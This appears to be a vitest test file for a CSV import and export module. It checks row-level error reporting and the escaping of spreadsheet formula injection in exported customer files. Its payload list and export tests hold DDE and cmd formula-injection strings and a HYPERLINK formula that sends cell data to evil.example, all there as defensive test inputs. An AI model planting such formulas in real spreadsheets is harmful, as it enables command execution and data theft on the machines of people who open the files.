// The CSV bad-input corpus (test/corpus/csv, expected outcomes in cases.json): every file
// goes through the import path as far as it runs in Node — bytes → encoding → text →
// delimiter → header → rows → planner — and comes out with the rows read, the rows refused
// (with their line number and reason) and the encoding the reader saw. A broken row never
// takes a good row with it. Then the other direction: no CSV we write (customers, the
// skipped-rows report) holds a cell a spreadsheet would run as a formula.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, FORMULA_SIGNS, neutralizeFormula } from '@/core/csv-write';
import { detectHeader } from '@/core/import/headers';
import { ImportPlanner, type RejectedRow } from '@/core/import/plan';
import { rejectedCsv } from '@/core/import/report';
import { cellText, parsePhone } from '@/core/import/values';
import { recordConversation } from '@/storage/conversations';
import { customersCsv } from '@/storage/customers-csv';
import { csvRows, csvTopRows, decodeCsv } from '@/utils/import-read';
import { FILES } from '../corpus/csv/make';
import { clockAt, freshDb, snap, T0 } from './storage-helpers';

const DIR = path.join(__dirname, '../corpus/csv');

interface CsvCase {
  file: string;
  about: string;
  encoding: string;
  delimiter?: string;
  /** Header row index (0-based), or null when the file has none (the import stops there). */
  header: number | null;
  mapping?: (string | null)[];
  rows?: number;
  accepted?: number;
  rejected?: [number, string][];
  customers?: { name: string; phones?: string[]; emails?: string[]; address?: string }[];
}

const cases = JSON.parse(readFileSync(path.join(DIR, 'cases.json'), 'utf8')) as CsvCase[];

/** What the import worker does with a CSV file (utils/import-worker.ts), minus the writes. */
function importCsv(bytes: Uint8Array) {
  const { text, encoding, delimiter } = decodeCsv(bytes);
  const header = detectHeader(csvTopRows(text, delimiter, 40));
  if (!header) return { encoding, delimiter, header: null, plan: null, mapping: null };
  const planner = new ImportPlanner(header.mapping);
  let index = 0;
  csvRows(text, delimiter, (rows) => {
    for (const row of rows) {
      if (index > header.row) planner.add(row, index + 1);
      index += 1;
    }
  });
  return { encoding, delimiter, header: header.row, mapping: header.mapping, plan: planner.plan };
}

describe('CSV corpus', () => {
  it('every file is the one make.ts writes, and every file has a case', () => {
    for (const [name, bytes] of Object.entries(FILES))
      expect(new Uint8Array(readFileSync(path.join(DIR, name))), name).toEqual(bytes);
    expect(cases.map((c) => c.file).sort()).toEqual(Object.keys(FILES).sort());
  });

  it.each(cases)('$file: $about', (c) => {
    const r = importCsv(new Uint8Array(readFileSync(path.join(DIR, c.file))));
    expect(r.encoding).toBe(c.encoding);
    expect(r.header).toBe(c.header);
    if (c.header === null) return;
    if (c.delimiter !== undefined) expect(r.delimiter).toBe(c.delimiter);
    if (c.mapping) expect(r.mapping).toEqual(c.mapping);
    const plan = r.plan!;
    if (c.rows !== undefined) expect(plan.rows).toBe(c.rows);
    if (c.accepted !== undefined) expect(plan.accepted).toBe(c.accepted);
    if (c.rejected) expect(plan.rejected.map((x) => [x.line, x.code])).toEqual(c.rejected);
    if (c.customers) {
      expect(plan.customers).toHaveLength(c.customers.length);
      for (const [i, want] of c.customers.entries()) expect(plan.customers[i]).toMatchObject(want);
    }
  });
});

describe('a large export with a few bad rows', () => {
  // 10,000 data rows (not committed): UTF-8 with BOM, CRLF with some bare-LF lines, a bad
  // phone, a row without contact, an unterminated quote and a bad e-mail at known lines.
  const N = 10_000;
  const line = (n: number) => {
    const phone = `09${10_000_000 + n}`;
    if (n === 2_501) return `Khách ${n},12345,,Hà Nội`;
    if (n === 5_002) return `Khách ${n},,,Hà Nội`;
    if (n === 7_503) return `"Khách ${n},${phone},,Huế`;
    if (n === 9_999) return `Khách ${n},,x@@,`;
    return `Khách ${n},${phone},,"Số ${n}, Quận ${n % 12}"`;
  };
  const text = [
    'Tên khách hàng,Số điện thoại,Email,Địa chỉ',
    ...Array.from({ length: N }, (_, i) => line(i + 2)),
  ]
    .map((l, i) => l + (i % 97 === 0 ? '\n' : '\r\n'))
    .join('');
  const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(text)]);

  it('reads every good row, and names each bad one by its line and reason', () => {
    const r = importCsv(bytes);
    expect([r.encoding, r.delimiter, r.header]).toEqual(['utf-8', ',', 0]);
    const plan = r.plan!;
    expect(plan.rows).toBe(N);
    expect(plan.rejected.map((x) => [x.line, x.code, x.params.value ?? ''])).toEqual([
      [2_501, 'bad-phone', '12345'],
      [5_002, 'no-contact', ''],
      [9_999, 'bad-email', 'x@@'],
    ]);
    expect(plan.accepted).toBe(N - 3);
    expect(plan.customers).toHaveLength(N - 3);
    // After the broken quote, every row is still its own customer, with its own address.
    const byName = new Map(plan.customers.map((c) => [c.name, c]));
    expect(byName.get('"Khách 7503')?.address).toBe('Huế');
    for (const n of [7_504, 7_505, 9_000, 10_001])
      expect(byName.get(`Khách ${n}`)).toMatchObject({
        phones: [`+849${10_000_000 + n}`],
        address: `Số ${n}, Quận ${n % 12}`,
      });
  });
});

// ---- formula injection on export ------------------------------------------------------

const SIGNS = new Set([...FORMULA_SIGNS]);
/** Cells a spreadsheet could see in one written field: Excel in comma mode reads the quoted
 * field as one cell; Excel with Vietnamese settings splits the line on `;` and breaks it at
 * line ends, honouring a quote only at the start of such a piece. */
function cellStarts(written: string): string[] {
  const comma = Papa.parse<string[]>(written, { delimiter: ',', newline: '\r\n' }).data[0]?.[0];
  const pieces = written.split(/[;\t\r\n]/).map((p) => p.replace(/^"/, ''));
  return [comma ?? '', ...pieces];
}
/** Cells that would run: a sign first (spaces before it aside), or a tab or CR first. */
const live = (written: string) =>
  cellStarts(written).filter(
    (c) => SIGNS.has(c.replace(/^[ \u00a0\u3000]+/, '')[0] ?? '') || /^[\t\r]/.test(c),
  );

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋84912345678',
  ' =1+1',
  "Lan;=cmd|' /C calc'!A0",
  'Ghi chú\n=HYPERLINK("x")',
  'VIP; @SUM(A1)',
];

describe('formula injection on export', () => {
  it.each(PAYLOADS)('%j is written so no spreadsheet cell starts a formula', (payload) => {
    const written = csvField(payload);
    expect(live(written)).toEqual([]);
    // Comma mode (the file's own format): the only change is the text marker(s).
    const cell = Papa.parse<string[]>(written, { delimiter: ',', newline: '\r\n' }).data[0]![0];
    expect(cell).toBe(neutralizeFormula(payload));
    expect(cell!.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  it.each([
    ['Nguyễn Thu Hà', 'Nguyễn Thu Hà'],
    ['0912 345 678', '0912 345 678'],
    ['lan@example.vn', 'lan@example.vn'],
    ['2026-11-23', '2026-11-23'],
    ['Áo len - size M', 'Áo len - size M'],
    [450_000, '450000'],
    [-5, '-5'],
    [-1.5, '-1.5'],
    ['+84912345678', "'+84912345678"],
    ['-5', "'-5"],
  ] as const)('the ordinary value %j is written %j', (value, out) => {
    expect(csvField(value)).toBe(out);
  });

  it('property: any text comes out with no live formula cell, and unchanged when it had none', () => {
    const piece = fc.constantFrom(
      ...FORMULA_SIGNS,
      ';',
      ',',
      '"',
      "'",
      ' ',
      '\t',
      '\r',
      '\n',
      '\u3000',
      'ệ',
      'a',
      '0',
      '|',
      '(',
    );
    const text = fc.oneof(
      fc.string(),
      fc.array(piece, { maxLength: 12 }).map((a) => a.join('')),
      fc.tuple(fc.constantFrom(...PAYLOADS), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(text, (s) => {
        const written = csvField(s);
        expect(live(written)).toEqual([]);
        const cell = Papa.parse<string[]>(`${written}\r\n`, { delimiter: ',', newline: '\r\n' })
          .data[0]![0];
        expect(cell).toBe(neutralizeFormula(s));
        // Nothing a spreadsheet would run: the text comes back exactly as it was.
        const starts = s.split(/[;\t\r\n]/).map((p) => p.replace(/^[ \u00a0\u3000]+/, ''));
        if (!starts.some((p) => SIGNS.has(p[0] ?? '')) && !/^[\t\r]/.test(s)) expect(cell).toBe(s);
      }),
      { numRuns: 2_000 },
    );
  });

  it('property: numbers are written as numbers, negative amounts included', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true })), (n) => {
        expect(csvField(n)).toBe(String(n));
      }),
    );
  });

  it('the customers CSV neutralises a hostile name, e-mail and label, and keeps phone and amounts as meant', async () => {
    const db = freshDb();
    const view = await recordConversation(db, snap(), clockAt(T0));
    await db.customers.update(view.customerId, {
      displayName: "=cmd|' /C calc'!A0",
      phones: ['+84912345678'],
      emails: ['@SUM(1+1)@x.vn'],
    });
    await db.labels.add({
      id: 'l-evil',
      name: "-2+3+cmd|' /C calc'!A0",
      color: '#000000',
      order: 0,
      archived: false,
      updatedAt: T0,
    });
    await db.labelAssignments.add({
      id: 'a-evil',
      customerId: view.customerId,
      labelId: 'l-evil',
      assignedAt: T0,
    });
    await db.orders.add({
      id: 'o-1',
      customerId: view.customerId,
      code: '=1+1',
      placedAt: T0,
      total: 450_000,
      status: 'delivered',
      items: [],
    });
    const text = (await customersCsv(db, 420)).join('').replace(/^\uFEFF/, '');
    for (const line of text.split('\r\n').filter(Boolean)) {
      for (const cell of Papa.parse<string[]>(line).data[0]!)
        expect(live(csvField(cell))).toEqual([]);
      expect(live(line)).toEqual([]);
    }
    const [, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(row!.slice(1, 4)).toEqual(["'=cmd|' /C calc'!A0", '0912 345 678', "'@SUM(1+1)@x.vn"]);
    expect(row![6]).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(row!.slice(7, 9)).toEqual(['1', '450000']);
  });

  it('the skipped-rows report neutralises the imported cells, and importing the report again reads them back', () => {
    const rejected: RejectedRow[] = [
      {
        line: 4,
        code: 'no-contact',
        params: {},
        cells: [
          '=HYPERLINK("http://evil.example";"Bấm")',
          '+84912345678',
          "Lan;=cmd|' /C calc'!A0",
        ],
      },
    ];
    const csv = rejectedCsv('vi', rejected).replace(/^\uFEFF/, '');
    const line = csv.split('\r\n')[1]!;
    for (const cell of Papa.parse<string[]>(line).data[0]!) expect(live(cell)).toEqual([]);
    const cells = Papa.parse<string[]>(line).data[0]!.slice(2);
    expect(cells.map(cellText)).toEqual([
      '=HYPERLINK("http://evil.example";"Bấm")',
      '+84912345678',
      "Lan;'=cmd|' /C calc'!A0",
    ]);
    expect(parsePhone(cellText(cells[1]))).toBe('+84912345678');
    expect(parsePhone(cellText("'0912345678"))).toBe('+84912345678');
    expect(csvLine(['a', '=b'])).toBe("a,'=b\r\n");
  });
});
